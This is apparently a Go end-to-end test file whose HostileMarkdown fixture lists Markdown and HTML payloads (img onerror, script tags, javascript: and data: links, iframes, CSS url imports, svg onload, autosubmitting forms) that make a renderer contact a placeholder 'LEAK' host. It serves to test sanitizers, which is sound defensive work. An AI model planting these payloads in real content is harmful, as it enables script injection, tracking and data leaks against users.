package e2e

import "strings"

// HostileMarkdown is every way to a picture, a script, a frame or another address that Markdown and HTML have, to a server at that
// address. It ends with the words THE END.
func HostileMarkdown(address string) string {
	return strings.ReplaceAll(hostile, "LEAK", address)
}

const hostile = `![pixel](http://LEAK/pixel.png)
![[x]](http://LEAK/a "t")
[click](javascript:fetch('http://LEAK/js'))
[data](data:text/html,<script>fetch('http://LEAK/data')</script>)
<img src="http://LEAK/img" onerror="fetch('http://LEAK/onerror')">
<img srcset="http://LEAK/srcset 1x, http://LEAK/srcset2 2x">
<picture><source srcset="http://LEAK/source"><img></picture>
<script>fetch('http://LEAK/script')</script>
<script src="http://LEAK/src.js"></script>
<iframe src="http://LEAK/frame"></iframe>
<object data="http://LEAK/object"></object><embed src="http://LEAK/embed">
<video src="http://LEAK/video" poster="http://LEAK/poster" autoplay></video><audio src="http://LEAK/audio" autoplay></audio>
<meta http-equiv="refresh" content="0;url=http://LEAK/refresh">
<base href="http://LEAK/base/">
<link rel="stylesheet" href="http://LEAK/style.css"><link rel="prefetch" href="http://LEAK/prefetch"><link rel="dns-prefetch" href="http://LEAK/">
<style>@import url(http://LEAK/import); body{background:url(http://LEAK/css)}</style>
<p style="background:url(http://LEAK/inline)">x</p>
<svg onload="fetch('http://LEAK/svg')"><use href="http://LEAK/use#x"/><image href="http://LEAK/image"/></svg>
<math><mtext><img src=x onerror="fetch('http://LEAK/math')"></mtext></math>
<form action="http://LEAK/form" id=f><input autofocus onfocus="document.getElementById('f').submit()"></form>
<details open ontoggle="fetch('http://LEAK/toggle')">x</details>
<body onload="fetch('http://LEAK/body')">
<a href="http://LEAK/ping" ping="http://LEAK/ping2">x</a>
THE END`
